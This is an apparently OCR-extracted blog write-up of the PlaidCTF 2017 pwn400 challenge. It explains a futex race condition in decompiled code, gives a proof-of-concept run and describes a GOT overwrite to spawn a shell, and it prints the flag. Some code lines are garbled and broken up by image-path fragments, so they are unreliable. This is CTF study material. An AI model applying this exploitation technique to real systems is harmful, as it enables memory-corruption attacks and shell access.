prettify code

2017年4月25日 星期二

[Write-up] PlaidCTF 2017 - pwn400 Plaid Party Planning


The challenge files can be downloaded here.

Challenge contains three files: partyplanning.strippartyplanning.dump, and

partyplanning.strip is the main binary, with less protection:


Binary patching

When executing the binary it will ask you give two addresses, the binary will "patch" itself according to the address you input:

$ ./partyplanning.strip
Before we start, where would you like to help out the most? 401457<enter>
And second most? 401335<enter>
All right. We can help out 0x401457
All right. We can help out 0x401335

The patching for both addresses, in brief is just jump to sleep() and jump back. And the two addresses you specified will become sleep(2) and sleep(1), respectively. Patching can bethought as "insertsleep() to the specific address, no registers will be affected.

The two files partyplanning.dump and are helpers for patching, no need to care them.

Main feature

After patching, it will ask you input five names. Then it will start five threads to "prepare and hold a party".

The five characters will do their jobs like prepare food, music, or decorations. And there're approximate 20 futex locks for threads to work.

It's a bad idea to list what these five characters actually do. Let's move to describe the vulnerability.


Obviously, the patching feature clues us to find race-condition vulnerabilities.

We found some useless vulnerabilities that will lead to deadlock, but since they're not pwnable so we'll not discuss them here.

Let's introduce two functions before show where the vulnerability is.

Function at 0x401277:
// dlink on stack
__int64 __fastcall enqueue(LinkList *head, volatile signed __int32 *global_lock)
  __int64 result; // rax@11
  __int64 v3; // rcx@11
  Dlink dlink; // [sp+20h] [bp-30h]@1__int64 v5; // [sp+48h] [bp-8h]@1

  v5 = *MK_FP(__FS__, 40LL);
  dlink.futex = 0;
  dlink.prev = 0LL;
  lock(&head->futex); = 0LL;
  dlink.prev = head->prev;
  if ( dlink.prev )
    head->prev->next = &dlink;
    head->next = &dlink;
  head->prev = &dlink;
  if ( global_lock )
    unlock((int *)global_lock);
  while ( !dlink.futex && !(unsigned int)sys_futex(&dlink.futex, 0, 0, 0LL, 0LL, 0) )
  if ( global_lock )
    lock((int *)global_lock);
  result = dlink.hashval;
  v3 = *MK_FP(__FS__, 40LL) ^ v5;
  return result;Function at 0x401392:
void __fastcall dequeue(LinkList *head, __int64 hashval)
  Dlink *dlink; // [sp+18h] [bp-8h]@1

  dlink = head->next;
  if ( dlink )
    if ( dlink->prev )
      dlink->prev->next = dlink->next;
      head->next = dlink->next;
    if ( dlink->next )
      dlink->next->prev = dlink->prev;
      head->prev = dlink->prev;
    dlink->next = 0LL;
    dlink->prev = 0LL;
  if ( dlink )
    dlink->futex = 1;
    dlink->hashval = hashval;
    sys_futex(&dlink->futex, 1, 1u, 0LL, 0LL, 0);

An example usage of these two functions is shown as follows:
Two threads, named them Alice and Bob1. Alice: enqueue(Bob->head) // Alice starts to wait Bob
  2. Bob: dequeue(Bob->head) // Alice's lock released by Bob
When Alice called enqueue, she should wait at sys_futex(&dlink.futex, 0, 0, 0LL, 0LL, 0because it's a lock syscall.
And when Bob called dequeue, a hash value would be set on Alice's stack (dlink->hashval = hashval) and Alice would back from the syscall.

So, what if we make(patch) Alice sleep BEFORE she calls sys_futex?
Bob will call dequeue when Alice is sleeping, dlink->futex = 1 would be executed. So Alice will not be blocked by sys_futex!

And one more thing, we also patch the dequeue function to be:
dlink->futex = 1;
dlink->hashval = hashval;
sys_futex(&dlink->futex, 1, 1u, 0LL, 0LL, 0);

Then the execution flow would become:1. Alice: enqueue(Bob->head)
    • sleep(1) before sys_futex
  2. Bob: dequeue(Bob->head)
    • dlink->futex = 1;
    • sleep(2)
  3. Alice: Wake up from sleep(1) and sys_futex has no effect
    • continue to execute ANOTHER function
  4. Bob: Wake up from sleep(2)
    • dlink->hashval = hashval; change a value on Alice's stack!


So we patch two addresses at 0x401457 and 0x401335, while this wouldn't cause any segmentation fault. After tracing, Alice is waiting input in function 0x401771 when Bob changes Alice's stack value:
(part of function 0x401771)
char *printf_and_read(Person *a1, char *a2, ...)
  fgets(s, 48, stdin);  // <----- Alice is waiting here!
  lb = strchr(s, 10);
  if ( lb && lb != s )
    *lb = 0;
    dest = strdup(s);
    dest = (char *)malloc(0x30uLL);
      if ( lb )
        *lb = 0;strcpy(dest, s);
      if ( lb && lb != s )
      if ( !fgets(s, 48, stdin) )
      lb = strchr(s, 10);
    while ( s[0] );
  /* <deleted> */

The variable changed by Bob is dest. Since dest will be set by either strdup or malloc, no segmentation fault would be raised.

But the solution is easy, make Alice wait at another fgets  - after malloc , then segfault will be raised inside strcpy(dest, s) !

Proof of Concept:
$ cat in
                                <---- must have one blank line

$ (cat in;cat) | ./partyplanning.strip
Before we start, where would you like to help out the most? And second most? All right. We can help out 0x401457
All right. We can help out 0x401335
We bucket people into at most 31 bins
Who is helping out today?
Person 1: What a bucket e64f9343
Person 2: What a bucket d960287d
Person 3: What a bucket cd86f7a0Person 4: What a bucket 6df654c8
Person 5: What a bucket 1e98dff6
Alice: I really hate planning parties
david942j: Can't wait to get going
WWWW: Can't wait to get going
Bob: Can't wait to get going
QQpie: Can't wait to get going
david942j: This party should really happen in Pittsburgh
Bob: We really should have food be easy to pick up
QQpie: What kind of music isyour favorite?
Bob: What food from around Pittsburgh do you want?
Alice: Is FOOD really what you want to eat? [y/N]y<enter>

28557 segmentation fault (core dumped)  ./partyplanning.strip

dest will be changed to a hash value of name (Bob), so we have an arbitrary 4-byte address write. We change the value of free_got to system("/bin/sh") (already present in binary) and get shell ;)

Last thing is find a name that has hash value equals to 0x604218 (free_got), all we need is bruteforce.

exploit script: githubflag: PCTF{4nd_th4ts_why_w3_d0nt_p14n_p4rt13s_1n_p4r4113l}